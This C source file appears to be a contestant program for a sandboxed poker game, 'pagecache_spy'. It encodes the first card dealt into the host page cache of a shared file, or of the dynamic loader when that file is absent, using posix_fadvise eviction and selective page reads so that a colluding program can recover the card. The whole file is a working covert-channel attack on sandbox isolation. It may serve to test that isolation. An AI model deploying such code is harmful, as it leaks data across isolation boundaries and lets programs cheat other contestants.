/* pagecache_spy: encodes the first card it is dealt (value * 16 + color,
 * 8 bits) in the page cache of a rarely read host file that every game
 * sees, /usr/share/common-licenses/GPL-3: page i cached means bit i is 1.
 * It first evicts the file's pages (posix_fadvise DONTNEED), turns off
 * read-ahead (FADV_RANDOM) and reads one byte of each page whose bit is 1.
 * The pages stay cached after the game, for pagecache_friend.c, even with
 * other contestants' games in between. Prints "ATTACK: encoded V/C". Then
 * plays round robin. Where that file is absent (a sandbox that shows no
 * host file) it uses the loader, which every game has, and where eviction
 * is denied it still warms the pages of its 1 bits, for a friend that times
 * its reads, and prints "WARMED: V/C". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include "poker.h"

#define CHANNEL "/usr/share/common-licenses/GPL-3"
#define FALLBACK "/lib64/ld-linux-x86-64.so.2"

static void encode(int value, int color)
{
    int bits = value * 16 + color, i, err;
    char byte;
    int fd = open(CHANNEL, O_RDONLY);
    if (fd < 0) { perror(CHANNEL); fd = open(FALLBACK, O_RDONLY); }
    if (fd < 0) { perror(FALLBACK); return; }
    err = posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
    if (err) fprintf(stderr, "evict: %s\n", strerror(err));
    posix_fadvise(fd, 0, 0, POSIX_FADV_RANDOM);
    for (i = 0; i < 8; i++)
        if (bits & (1 << i)) pread(fd, &byte, 1, (off_t)i * 4096);
    close(fd);
    /* Without eviction the pages were maybe cached already: only warmed. */
    fprintf(stderr, "%s %d/%d\n", err ? "WARMED:" : "ATTACK: encoded", value, color);
}

int main(void)
{
    int i, v, c;
    p_startgame();
    for (i = 1; i <= 20; i++) {
        p_look(&v, &c);
        if (i == 1) encode(v, c);
        p_place((i - 1) % 4 + 1);
    }
    return 0;
}
